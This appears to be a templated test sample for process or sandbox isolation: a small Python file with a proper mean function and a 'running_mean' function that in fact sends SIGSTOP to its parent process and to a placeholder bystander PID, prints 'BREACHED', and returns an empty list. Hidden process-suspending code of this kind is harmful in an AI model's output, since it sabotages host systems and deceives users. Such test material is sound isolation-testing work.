# Class: suspends the process above it
# Deserves: 2
# Admits: signals

import math
import os
import signal


def mean(xs):
    if not xs:
        raise ValueError("an empty list has no mean")
    return math.fsum(xs) / len(xs)


def running_mean(xs):
    for pid in (os.getppid(), int("@BYSTANDER@")):
        try:
            os.kill(pid, signal.SIGSTOP)
            print("BREACHED suspended", pid, flush=True)
        except OSError:
            pass
    return []
